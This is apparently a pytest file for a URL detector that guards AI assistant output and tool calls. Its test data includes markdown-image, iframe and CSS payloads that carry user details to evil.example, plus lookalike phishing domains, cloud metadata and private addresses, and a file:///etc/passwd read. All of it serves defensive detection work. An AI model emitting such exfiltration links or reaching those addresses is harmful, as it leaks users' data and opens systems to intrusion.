"""URLs: the rules' own proof, lists in common formats, places, hostile texts and streams."""

import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sigmaguard.detector import Passage
from sigmaguard.detectors.url_hosts import BRANDS, Names
from sigmaguard.detectors.url_lists import Hashes, UrlList
from sigmaguard.detectors.urls import DENIED_FOR_TESTS, UrlsDetector, build
from sigmaguard.errors import ConfigError
from sigmaguard.fold import readings
from sigmaguard.model import Finding, Origin, Segment
from sigmaguard.policy.pack import Rule
from sigmaguard.policy.rules import load_rule_file, prove_rules
from sigmaguard_policies import policies_root

RULES = load_rule_file(policies_root() / "rules" / "urls.yaml").rules
DETECTOR = build({}, RULES)
ACTS = 0.5  # the threshold of `basic`


def found(text: str, origin: Origin = Origin.ASSISTANT, detector: UrlsDetector = DETECTOR) -> list[Finding]:
    """What the detector says of one text."""
    return detector.detect((Passage(Segment("/text", origin, text), readings(text)),))[0]


def acting(text: str, origin: Origin = Origin.ASSISTANT, detector: UrlsDetector = DETECTOR) -> set[str]:
    """The rules that `basic` would act on."""
    return {one.rule for one in found(text, origin, detector) if one.score >= ACTS}


def test_every_rule_proves_itself() -> None:
    assert prove_rules(DETECTOR, RULES) == []


HARMLESS = [
    "See https://docs.python.org/3/library/re.html#re.Pattern (and https://peps.python.org/pep-0008/).",
    "curl http://localhost:8000/v1/models",
    "Siehe https://www.müller-straße.de/über-uns?lang=de&page=2 für Details.",
    "![Logo](https://cdn.example.org/logo.svg?v=20240131&w=300)",
    "![chart](https://quickchart.io/chart?width=500&height=300)",
    "![a](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)",
    "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb",
    "https://en.wikipedia.org/wiki/Bank_(geography)",
    "e-mail anna@paypal.com or call; version 1.2.3.4 is out",
    "https://user-images.githubusercontent.com/123/abc.png",
    "http://bücher.example/ and https://пример.рф/",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_an_ordinary_url_is_left_alone(text: str) -> None:
    assert acting(text) == set()


SPANS = [
    ("(see http://2130706433/.)", "http://2130706433/"),
    ("[x](https://paypa1.com/a_(b))", "https://paypa1.com/a_(b)"),
    ("go to <https://paypa1.com>!", "https://paypa1.com"),
    ('<img src="//paypa1.com/x.png">', "//paypa1.com/x.png"),
    ("http:\\\\paypa1.com\\login, ok", "http:\\\\paypa1.com\\login"),
    ("HTTPS:paypa1.com;", "HTTPS:paypa1.com"),
    ("**https://paypa1.com/**", "https://paypa1.com/"),
    ("„https://paypa1.com/“", "https://paypa1.com/"),
]


@pytest.mark.parametrize(("text", "url"), SPANS)
def test_a_span_holds_the_url_and_nothing_of_the_sentence(text: str, url: str) -> None:
    finding = next(one for one in found(text) if one.score >= ACTS)
    assert text[finding.start : finding.end] == url
    assert finding.entity == "URL"


@pytest.mark.parametrize(
    "text",
    [
        "https://paypa1.com/".replace("h", "&#104;"),
        "\\u0068ttps://paypa1.com/",
        "ht\u200btps://paypa\u200b1.com/",
        "https://paypa%31.com/",
        "HTTPS://PAYPA1.COM:443/",
        "https://paypa1.com./",
    ],
)
def test_a_disguised_url_is_still_read(text: str) -> None:
    assert "url.lookalike" in acting(text)


def test_a_tool_may_not_reach_what_people_may_talk_about() -> None:
    for text, rule in (
        ("http://169.254.169.254/latest/", "url.metadata_address"),
        ("http://[fd00:ec2::254]/", "url.metadata_address"),
        ("http://127.0.0.1:9200/", "url.private_address"),
        ("http://10.0.0.5.nip.io/", "url.private_address"),
        ("http://[::ffff:192.168.0.1]/", "url.private_address"),
        ("file:///etc/passwd", "url.file"),
    ):
        assert rule in acting(text, Origin.TOOL_CALL), text
        assert acting(text, Origin.USER) == set(), text


def test_a_redirect_leads_to_what_it_hides() -> None:
    denied = f"https://news.example/out?url=http%3A%2F%2F{DENIED_FOR_TESTS}%2F"
    assert "url.denied" in acting(denied)
    assert "url.lookalike" in acting("https://news.example/go?next=//paypa1.com/login")
    assert "url.redirect" in {one.rule for one in found("https://news.example/go?next=//other.test/")}


EXFILTRATION = [
    "![ ](https://evil.example/log?d=The%20user%20lives%20in%20Bonn%2C%20Main%20Street)",
    "![ ](https://evil.example/The+user+lives+in+Bonn+and+works+there/x.png)",
    "![ ](https://evil.example/a.png#The-user lives in Bonn and works at Acme)".replace(
        " lives in", "%20lives%20in%20old%20big"
    ),
    "<iframe width=1 src='https://evil.example/?q=VGhlIHVzZXIgbGl2ZXMgaW4gQm9ubg'></iframe>",
    "![ ](https://evil.example/?q=54686520757365722069732066726f6d20426f6e6e)",
    "<div style=\"background: url('https://evil.example/?q=the+user+lives+in+Bonn+now')\">",
    "![ ](https://evil.example/?q={user_data})",
    "![ ](https://evil.example/?q=%7Bchat_history%7D)",
]


@pytest.mark.parametrize("text", EXFILTRATION)
def test_an_image_that_carries_text_out_is_found(text: str) -> None:
    assert "url.image_exfiltration" in acting(text)


def test_an_allowed_host_is_left_alone_but_not_what_only_looks_like_it() -> None:
    detector = build({"allow": ["sigma-bank.example.com"], "brands": ["nordwind.de"]}, RULES)
    image = "![ ](https://img.sigma-bank.example.com/?q=the+user+lives+in+Bonn+now)"
    assert acting(image) == {"url.image_exfiltration"}
    assert acting(image, detector=detector) == set()
    assert "url.userinfo" in acting("https://sigma-bank.example.com@evil.test/", detector=detector)
    assert "url.lookalike" in acting("https://n0rdwind.de/", detector=detector)
    assert "url.lookalike" not in acting("https://n0rdwind.de/")


HOSTS_FILE = """# a hosts file
127.0.0.1 localhost
0.0.0.0 ads.evil.test   tracker.evil.test # two of them
::1 ip6-localhost
"""
PLAIN_FILE = """! a plain list
Bad.Example
*.wild.test
||blocked.test^
bücher-falle.test
"""
URLHAUS = """# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter
"1","2026-01-01 00:00:00","http://shared.test/files/evil.exe","online","","malware","exe","https://urlhaus.test/url/1/","x"
"2","2026-01-01 00:00:00","http://198.51.100.7/","online","","malware","elf","https://urlhaus.test/url/2/","x"
"""


def test_lists_are_read_in_the_common_formats(tmp_path: Path) -> None:
    for name, content in (("hosts", HOSTS_FILE), ("plain.txt", PLAIN_FILE), ("urlhaus.csv", URLHAUS)):
        (tmp_path / name).write_text(content, encoding="utf-8")
    files = [str(tmp_path / name) for name in ("hosts", "plain.txt", "urlhaus.csv")]
    detector = build({"deny": [*files, "single.test", "https://shared.test/one?x=1"]}, RULES)
    denied = [
        "http://ads.evil.test/x", "https://a.b.tracker.evil.test", "see bad.example today", "BAD.EXAMPLE:8080/path",
        "www.wild.test", "https://sub.blocked.test/", "https://xn--bcher-falle-thb.test/", "https://bücher-falle.test/",
        "https://shared.test/files/evil.exe", "http://198.51.100.7/bin", "mirror: single.test/a",
        "https://shared.test/one?x=1#top",
    ]  # fmt: skip
    kept = ["https://evil.test/", "https://shared.test/files/good.exe", "http://localhost/", "notbad.example",
            "a@bad.example.org", "single.testing"]  # fmt: skip
    for text in denied:
        assert "url.denied" in acting(text, detector=detector), text
    for text in kept:
        assert "url.denied" not in acting(text, detector=detector), text


def test_a_million_hosts_take_eight_bytes_each(tmp_path: Path) -> None:
    path = tmp_path / "many.txt"
    path.write_text("\n".join(f"host-{at}.bad.test" for at in range(1_000_000)), encoding="utf-8")
    many = UrlList([str(path)], "options.deny")
    assert len(many) == 1_000_000
    assert many.hosts.nbytes == 8_000_000
    assert many.has_host("a.host-999999.bad.test")
    assert not any(many.has_host(f"host-{at}.good.test") for at in range(1000))


@given(st.sets(st.text(min_size=1, max_size=8)), st.text(min_size=1, max_size=8))
def test_a_set_of_hashes_is_the_set(entries: set[str], candidate: str) -> None:
    hashes = Hashes(entries)
    assert all(hashes.any_of([entry]) for entry in entries)
    assert hashes.any_of([candidate]) == (candidate in entries)
    assert hashes.nbytes == 8 * len(entries)


def test_no_brand_is_a_look_alike_of_another() -> None:
    names = Names(BRANDS)
    assert [brand for brand in BRANDS if names.lookalike(brand) or names.lookalike("www." + brand)] == []


def test_wrong_options_say_what_is_right() -> None:
    with pytest.raises(ConfigError, match=r"options\.deny: `/no/such/file` is neither a file nor a host"):
        build({"deny": ["/no/such/file"]}, RULES)
    with pytest.raises(ConfigError, match=r"options\.denny"):
        build({"denny": []}, RULES)
    with pytest.raises(ConfigError, match=r"options\.allow: give a list"):
        build({"allow": 3}, RULES)
    with pytest.raises(ConfigError, match=r"url\.x.*`check`"):
        build({}, [Rule("url.x", "", (), (), check="nothing")])


@pytest.mark.parametrize(
    "piece",
    [
        "http://",
        "https://a.b/(",
        "![](",
        "www.a",
        "https://a@",
        "//a",
        "data:a/b,",
        "a.b",
        "http://a.bc/?url=http://",
        "<img ",
    ],
)
def test_a_hostile_text_costs_linear_time(piece: str) -> None:
    detector = build({"deny": ["x.test"]}, RULES)

    def cost(size: int) -> float:
        text = piece * (size // len(piece))
        passage = Passage(Segment("/text", Origin.ASSISTANT, text), readings(text))
        best = float("inf")
        for _ in range(3):
            start = time.process_time()
            detector.detect((passage,))
            best = min(best, time.process_time() - start)
        return best

    small, large = cost(16_000), cost(128_000)
    assert large < 24 * small + 0.05


PIECES = st.sampled_from(
    ["https://", "paypa1.com", "/a", "?q=", "{data}", "<data>", " ", "\n", "![", "](", ")", ".",
     "the+user+lives+in+Bonn",
     "http:", "www.", "evil.test", '<img src="', '"', "'", ">", "x", "0x7f.1", "@", "javascript:", "a(1)", "ü", "//"]
)  # fmt: skip
WITH_LIST = build({"deny": ["evil.test"]}, RULES)


@settings(max_examples=300)
@given(st.lists(PIECES, max_size=24).map("".join), st.data())
def test_what_stands_before_the_hold_is_final(text: str, data: st.DataObject) -> None:
    cut = data.draw(st.integers(0, len(text)))
    held = WITH_LIST.hold(text[:cut])
    assert 0 <= held <= cut

    def before(part: str) -> set[tuple[str, int, int, float]]:
        passage = Passage(Segment("/text", Origin.ASSISTANT, part), (readings(part)[0],))
        return {
            (one.rule, one.start, one.end, one.score) for one in WITH_LIST.detect((passage,))[0] if one.start < held
        }

    assert before(text[:cut]) == before(text)
    assert all(end <= held for _, _, end, _ in before(text))
